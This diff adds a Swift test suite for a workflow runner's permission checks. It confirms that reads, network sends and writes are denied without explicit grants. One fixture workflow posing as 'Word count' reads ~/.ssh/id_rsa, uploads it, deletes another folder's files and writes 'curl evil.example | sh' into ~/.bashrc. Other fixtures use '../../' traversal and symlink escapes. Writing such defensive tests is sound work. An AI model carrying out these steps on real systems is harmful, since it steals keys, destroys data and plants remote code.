@@ -1,0 +1,122 @@
+import Foundation
+import Testing
+
+/// What a workflow may touch (Docs/Security.md): without a grant and without a terminal, a need is
+/// denied before anything is read, sent or changed, and the run exits with 4 naming the flag.
+@Suite("Permissions at run time")
+struct PermissionTests {
+    private let root = FileManager.default.temporaryDirectory.appendingPathComponent("relay-permissions-\(UUID().uuidString)")
+    private var home: URL { root.appendingPathComponent("home") }
+    private var work: URL { root.appendingPathComponent("work") }
+
+    init() throws {
+        for folder in [home.appendingPathComponent(".ssh"), work, root.appendingPathComponent("victim"), root.appendingPathComponent("state")] {
+            try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
+        }
+        try "PRIVATE KEY\n".write(to: home.appendingPathComponent(".ssh/id_rsa"), atomically: true, encoding: .utf8)
+        try "alias ls='ls -F'\n".write(to: home.appendingPathComponent(".bashrc"), atomically: true, encoding: .utf8)
+        try "keep me\n".write(to: root.appendingPathComponent("victim/data.txt"), atomically: true, encoding: .utf8)
+    }
+
+    private func relay(_ arguments: [String], input: String = "") async throws -> RelayProcess.Result {
+        try await RelayProcess.running(
+            arguments, in: work, input: input,
+            environment: ["HOME": home.path, "XDG_STATE_HOME": root.appendingPathComponent("state").path, "NO_COLOR": "1"])
+    }
+
+    private func write(_ yaml: String, named name: String = "w.yaml") throws {
+        try yaml.write(to: work.appendingPathComponent(name), atomically: true, encoding: .utf8)
+    }
+
+    @Test("'Word count' that steals a key, deletes a neighbour's files and rewrites ~/.bashrc: denied at the first step, exit 4, nothing sent or changed")
+    func exfiltration() async throws {
+        let stolen = root.appendingPathComponent("received.txt")
+        try write("""
+            name: Word count
+            steps:
+              - read-file: ~/.ssh/id_rsa
+                as: key
+              - url: \(await LocalHTTPServer.base())/store\(stolen.path)
+              - get-contents-of-url: { method: put, body: "${key}" }
+              - find-files: ../victim
+              - delete-file
+              - text: "curl evil.example | sh"
+              - save-file: { to: ~/.bashrc, overwrite: true }
+              - text: "3 words"
+            """)
+        let denied = try await relay(["run", "w.yaml"])
+        #expect(denied.status == 4)
+        #expect(denied.standardError.contains("w.yaml:3:5: error: step 'read-file': needs to read ~/.ssh/id_rsa"), "\(denied.standardError)")
+        #expect(denied.standardError.contains("run with --allow-read=~/.ssh/id_rsa"))
+        #expect(denied.standardOutput.isEmpty)
+        #expect(!FileManager.default.fileExists(atPath: stolen.path))
+        // A dry run is no way around it.
+        #expect(try await relay(["run", "w.yaml", "--dry-run"]).status == 4)
+
+        // Each grant lets it go one step further, and the next need is named.
+        let read = try await relay(["run", "w.yaml", "--allow-read=~/.ssh/id_rsa"])
+        #expect(read.status == 4)
+        #expect(read.standardError.contains("needs to connect to 127.0.0.1:"), "\(read.standardError)")
+        #expect(!FileManager.default.fileExists(atPath: stolen.path))
+        let sent = try await relay(["run", "w.yaml", "--allow-read=~/.ssh/id_rsa", "--allow-net=127.0.0.1"])
+        #expect(sent.status == 4)
+        #expect(sent.standardError.contains("needs to read \(root.appendingPathComponent("victim").path)"), "\(sent.standardError)")
+        #expect(try String(contentsOf: root.appendingPathComponent("victim/data.txt"), encoding: .utf8) == "keep me\n")
+        #expect(try String(contentsOf: home.appendingPathComponent(".bashrc"), encoding: .utf8) == "alias ls='ls -F'\n")
+
+        // With every grant, it runs.
+        let all = try await relay([
+            "run", "w.yaml", "--allow-read=~/.ssh/id_rsa", "--allow-net=127.0.0.1", "--allow-write=\(root.path)/victim,~/.bashrc",
+        ])
+        #expect(all.status == 0, "\(all.standardError)")
+        #expect(all.standardOutput == "3 words\n")
+        #expect(try String(contentsOf: stolen, encoding: .utf8) == "PRIVATE KEY\n")
+    }
+
+    @Test("a path built from the input is the path it really is: out/${input} with ../../x needs a grant for x")
+    func pathFromInput() async throws {
+        try write("steps:\n  - text: data\n  - save-file: \"out/${input}.txt\"\n")
+        let escaped = try await relay(["run", "w.yaml", "--input", "../../escaped", "--allow-write=out"])
+        #expect(escaped.status == 4)
+        #expect(escaped.standardError.contains("needs to write \(root.path)/escaped.txt"), "\(escaped.standardError)")
+        #expect(!FileManager.default.fileExists(atPath: root.appendingPathComponent("escaped.txt").path))
+        let inside = try await relay(["run", "w.yaml", "--input", "report", "--allow-write=out"])
+        #expect(inside.status == 0, "\(inside.standardError)")
+        #expect(FileManager.default.fileExists(atPath: work.appendingPathComponent("out/report.txt").path))
+    }
+
+    @Test("a grant covers its folder's subfolders, not a symbolic link out of it")
+    func linkOut() async throws {
+        try FileManager.default.createDirectory(at: work.appendingPathComponent("out/deep"), withIntermediateDirectories: true)
+        try FileManager.default.createSymbolicLink(atPath: work.appendingPathComponent("out/escape").path, withDestinationPath: root.appendingPathComponent("victim").path)
+        try write("steps:\n  - text: x\n  - save-file: { to: out/deep/a.txt }\n  - save-file: { to: out/escape/data.txt, overwrite: true }\n")
+        let result = try await relay(["run", "w.yaml", "--allow-write=out"])
+        #expect(result.status == 4)
+        #expect(result.standardError.contains("w.yaml:4:5: error: step 'save-file': needs to write \(root.path)/victim/data.txt"), "\(result.standardError)")
+        #expect(FileManager.default.fileExists(atPath: work.appendingPathComponent("out/deep/a.txt").path))
+        #expect(try String(contentsOf: root.appendingPathComponent("victim/data.txt"), encoding: .utf8) == "keep me\n")
+    }
+
+    @Test("a denial is not an error on-error can catch: the run ends with 4")
+    func notCaught() async throws {
+        try write("steps:\n  - read-file: ~/.bashrc\n    on-error: continue\n  - text: went on\n")
+        let result = try await relay(["run", "w.yaml"])
+        #expect(result.status == 4)
+        #expect(!result.standardOutput.contains("went on"))
+    }
+
+    @Test("the workflow's own folder, the scratch folder and a path given as --input are free; --allow-all grants everything")
+    func free() async throws {
+        try "local\n".write(to: work.appendingPathComponent("data.txt"), atomically: true, encoding: .utf8)
+        try write("steps:\n  - read-file: data.txt\n  - convert: pdf\n  - get-text\n")
+        #expect(try await relay(["run", "w.yaml"]).standardOutput == "local\n")
+        try write("steps:\n  - read-file: \"${input}\"\n")
+        let given = try await relay(["run", "w.yaml", "--input", home.appendingPathComponent(".bashrc").path])
+        #expect(given.status == 0, "\(given.standardError)")
+        try write("steps:\n  - read-file: ~/.ssh/id_rsa\n  - get-text\n")
+        #expect(try await relay(["run", "w.yaml", "--allow-all"]).standardOutput == "PRIVATE KEY\n")
+        #expect(try await relay(["run", "w.yaml", "--allow-read"]).standardOutput == "PRIVATE KEY\n")
+        #expect(try await relay(["run", "w.yaml", "--allow-read=~/.ssh"]).standardOutput == "PRIVATE KEY\n")
+        #expect(try await relay(["run", "w.yaml", "--allow-read=~/.sshx"]).status == 4)
+    }
+}
